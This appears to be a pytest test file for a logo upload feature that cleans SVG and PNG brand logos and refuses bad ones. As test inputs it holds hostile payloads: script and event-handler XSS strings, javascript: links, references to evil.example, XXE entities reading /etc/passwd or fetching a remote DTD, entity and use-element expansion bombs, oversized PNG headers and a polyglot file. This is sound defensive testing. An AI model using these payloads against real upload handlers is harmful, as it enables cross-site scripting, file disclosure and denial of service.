"""Taking a logo: what comes through, what is made of it, and what is refused and why."""

import gzip
import io
import struct
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image, ImageFile

from tests.factories.branding import SVG, WHITE_SVG, png
from tpma.branding import logos, raster, svg
from tpma.branding.models import LogoVariant
from tpma.core.errors import Invalid

PRIMARY, REVERSED, ICON = LogoVariant


def drawing(inside: str = "", attributes: str = 'viewBox="0 0 160 40"', before: str = "") -> bytes:
    return (
        f'{before}<svg xmlns="http://www.w3.org/2000/svg" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink" {attributes}>'
        f'<rect width="160" height="40" fill="#0057B8"/>{inside}</svg>'
    ).encode()


def refusal(data: bytes, variant: LogoVariant = PRIMARY) -> str:
    with pytest.raises(Invalid) as error:
        logos.intake(data, variant)
    assert error.value.field == "logo"
    return error.value.message


def test_an_svg_is_kept_clean_and_drawn_at_twice_its_size():
    logo = logos.intake(SVG.encode(), PRIMARY)
    assert (logo.content_type, logo.width, logo.height) == ("image/svg+xml", 160, 40)
    assert Image.open(io.BytesIO(logo.png)).size == (282, 71)


def test_an_svg_tells_its_main_colour_and_its_brand_colour():
    logo = logos.intake(SVG.encode(), PRIMARY)
    assert (logo.colour, logo.vivid) == ("#16181C", "#0057B8")


def test_a_png_is_written_anew_and_kept_transparent():
    logo = logos.intake(png(), PRIMARY)
    assert (logo.content_type, logo.width, logo.height) == ("image/png", 640, 160)
    assert logo.colour == "#0057B8"
    assert Image.open(io.BytesIO(logo.png)).getchannel("A").getextrema()[0] == 0


@pytest.mark.parametrize("mode", ["P", "L", "LA", "1", "I;16"])
def test_every_kind_of_png_is_understood(mode):
    picture = Image.open(io.BytesIO(png(ink="#000000", ground="#FFFFFF"))).convert("RGB")
    picture = picture.convert("L") if mode == "I;16" else picture
    out = io.BytesIO()
    picture.convert(mode).save(out, "PNG")
    assert logos.intake(out.getvalue(), PRIMARY).png.startswith(b"\x89PNG")


def test_the_same_file_gives_the_same_name():
    assert logos.intake(png(), PRIMARY).sha256 == logos.intake(png(), PRIMARY).sha256


@pytest.mark.parametrize(
    "harmless",
    [
        '<title>Logo</title><desc>Ours</desc><metadata><a xmlns="urn:x">x</a></metadata>',
        '<sodipodi:namedview xmlns:sodipodi="http://sodipodi.example" id="base"/>',
        '<g data-name="Layer 1" inkscape:label="x" xmlns:inkscape="urn:i"/>',
        "<!-- made by hand --><?php echo 1 ?>",
        '<style>.st0{fill:#0057B8}</style><path class="st0" d="M0 0h9v9z"/>',
        '<defs><path id="p" d="M0 0h9v9z"/></defs><use xlink:href="#p"/>',
        '<linearGradient id="g"><stop offset="0" stop-color="#0057B8"/></linearGradient>'
        '<path fill="url(#g)" d="M0 0h9v9z"/>',
    ],
)
def test_what_drawing_programs_leave_behind_is_taken(harmless):
    kept = logos.intake(drawing(harmless), PRIMARY).content.decode()
    assert all(word not in kept for word in ("metadata", "namedview", "inkscape", "php", "data-"))


def test_a_doctype_without_entities_is_taken():
    head = (
        '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    )
    assert b"DOCTYPE" not in logos.intake(drawing(before=head), PRIMARY).content


@pytest.mark.parametrize(
    ("hostile", "why"),
    [
        ("<script>alert(1)</script>", "active content"),
        ('<script xlink:href="https://evil.example/x.js"/>', "active content"),
        ("<foreignObject><body/></foreignObject>", "active content"),
        ('<a href="javascript:alert(1)"><path d="M0 0"/></a>', "active content"),
        ('<path onload="alert(1)" d="M0 0"/>', "active content"),
        ('<path OnClick="alert(1)" d="M0 0"/>', "active content"),
        ('<use href="https://evil.example/x.svg#a"/>', "outside"),
        ('<use xlink:href="file:///etc/passwd#a"/>', "outside"),
        ('<use href="javascript:alert(1)"/>', "outside"),
        ('<use href="data:image/svg+xml;base64,AAAA"/>', "outside"),
        ('<path fill="url(https://evil.example/x)" d="M0 0"/>', "outside"),
        ('<path style="fill:url( \'//evil.example\' )" d="M0 0"/>', "outside"),
        ("<style>@import 'https://evil.example/x.css';</style>", "load or run"),
        ("<style>path{background:url(x.png)}</style>", "outside"),
        (r"<style>path{fill:u\72l(x)}</style>", "load or run"),
        ("<style>path{width:expression(alert(1))}</style>", "load or run"),
        ("<style>p{}&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>", "load or run"),
        ('<image href="https://evil.example/track.png"/>', "embeds a picture"),
        ('<image href="data:image/png;base64,AAAA"/>', "embeds a picture"),
        ("<text>Brightline</text>", "outlines"),
        ('<filter id="f"><feImage href="//evil.example"/></filter>', "filter"),
        ('<animate attributeName="href" to="javascript:alert(1)"/>', "animate"),
        ('<set attributeName="onload" to="alert(1)"/>', "set"),
    ],
)
def test_a_hostile_svg_is_refused_by_name(hostile, why):
    assert why in refusal(drawing(hostile))


def test_an_onload_of_the_drawing_itself_is_refused():
    assert "onload" in refusal(drawing(attributes='viewBox="0 0 160 40" onload="alert(1)"'))


@pytest.mark.parametrize(
    "entities",
    [
        '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
        '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>',
    ],
)
def test_entities_are_refused_before_they_are_read(entities):
    assert "entities" in refusal(drawing("<g>&xxe;</g>", before=entities))


def test_a_drawing_nested_deeper_than_the_stack_is_refused():
    assert "nested" in refusal(drawing("<g>" * 20_000 + "</g>" * 20_000))


def test_a_drawing_of_too_many_shapes_is_refused():
    assert "shapes" in refusal(drawing('<path d="M0 0"/>' * 5_001))


def test_a_drawing_that_multiplies_itself_is_stopped():
    levels = "".join(
        f'<g id="l{n}">' + f'<use href="#l{n - 1}"/>' * 10 + "</g>" for n in range(1, 12)
    )
    bomb = f'<defs><g id="l0"><path d="M0 0h9v9z"/></g>{levels}</defs><use href="#l11"/>'
    assert "cannot be drawn" in refusal(drawing(bomb))


@pytest.mark.parametrize(
    ("attributes", "why"),
    [
        ('viewBox="0 0 1000000000 10"', "how large"),
        ('viewBox="0 0 0 0"', "how large"),
        ('viewBox="0 0 -5 5"', "how large"),
        ('viewBox="0 0 nan 5"', "how large"),
        ('viewBox="0 0 inf 5"', "how large"),
        ('width="100%" height="100%"', "how large"),
        ("", "how large"),
        ('viewBox="0 0 900 100"', "8 is the most"),
        ('viewBox="0 0 100 401"', "4 is the most"),
    ],
)
def test_an_svg_of_impossible_size_is_refused(attributes, why):
    assert why in refusal(drawing(attributes=attributes))


@pytest.mark.parametrize(
    ("width", "px"), [("40mm", 151), ("1in", 96), ("30pt", 40), ("160", 160), ("160px", 160)]
)
def test_lengths_are_read_with_their_unit(width, px):
    logo = logos.intake(drawing(attributes=f'width="{width}" height="{width}"'), ICON)
    assert logo.width == px


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _bomb(width: int, height: int) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", b"") + _chunk(b"IEND", b"")
    )


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", "empty"),
        (b" \r\n\t", "empty"),
        (_bomb(60_000, 20_000), "4096"),
        (_bomb(2_000_000_000, 2_000_000_000), "PNG"),
        (_bomb(400, 200), "Export"),
        (png()[:300], "damaged"),
        (b"\x89PNG\r\n\x1a\n", "damaged"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, "damaged"),
        (b"<svg", "damaged"),
        (drawing()[:-20], "damaged"),
        (b"<html><body>hi</body></html>", "no SVG"),
        (b"<?xml version='1.0' encoding='no-such'?><svg/>", "damaged"),
        (b"\xff\xd8\xff\xe0 JFIF", "JPEG"),
        (b"GIF89a<svg onload=alert(1)>", "GIF"),
        (b"%PDF-1.7", "PDF"),
        (gzip.compress(drawing()), "SVGZ"),
        (b"PK\x03\x04", "ZIP"),
        (b"hello", "neither"),
        (b"x" * 600_000, "500 KB"),
        (png(200, 50), "sharp screens"),
        (png(1600, 100), "8 is the most"),
        (png(ink="#FFB81C"), "1.73 : 1"),
        (png(ground="#E8E8E8"), "filled ground"),
        (png(ink="#00000000"), "Nothing is to be seen"),
    ],
)
def test_what_is_no_good_logo_is_refused_with_the_reason(data, why):
    assert why in refusal(data)


def test_a_cut_off_picture_is_refused_whatever_other_libraries_allow(monkeypatch):
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)  # as WeasyPrint sets it
    assert "damaged" in refusal(png()[:-40])


def test_a_jpeg_renamed_to_png_is_told_as_one():
    picture = Image.new("RGB", (640, 160), "#0057B8")
    out = io.BytesIO()
    picture.save(out, "JPEG")
    assert "JPEG" in refusal(out.getvalue())


def test_what_rides_behind_a_picture_is_left_behind():
    polyglot = png() + b"<script>alert(1)</script>PK\x03\x04"
    logo = logos.intake(polyglot, PRIMARY)
    assert b"script" not in logo.content
    assert b"script" not in logo.png


def test_a_white_plate_is_borne_on_white_but_not_on_dark():
    assert logos.intake(png(ground="#FFFFFF"), PRIMARY).colour == "#0057B8"
    assert "filled ground" in refusal(png(ground="#FFFFFF"), REVERSED)


def test_a_dark_tile_is_part_of_the_logo():
    assert logos.intake(png(ground="#0057B8", ink="#FFFFFF"), PRIMARY).colour == "#0057B8"


def test_a_dark_logo_is_refused_as_the_one_for_dark_ground():
    assert "light version" in refusal(SVG.encode(), REVERSED)
    assert logos.intake(WHITE_SVG.encode(), REVERSED).colour == "#FFFFFF"


def test_a_slow_drawing_is_stopped(monkeypatch):
    monkeypatch.setattr(raster, "_SECONDS", 0.001)
    assert "cannot be drawn" in refusal(drawing())


def test_a_cleaned_drawing_is_clean():
    once = svg.sanitised(drawing("<style>.a{fill:#fff}</style>"))
    assert svg.sanitised(once.text.encode()) == once


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=300))
def test_no_bytes_but_a_logo_come_through(data):
    for start in (b"", b"\x89PNG\r\n\x1a\n", b"<svg xmlns='http://www.w3.org/2000/svg'"):
        with pytest.raises(Invalid):
            logos.intake(start + data, PRIMARY)
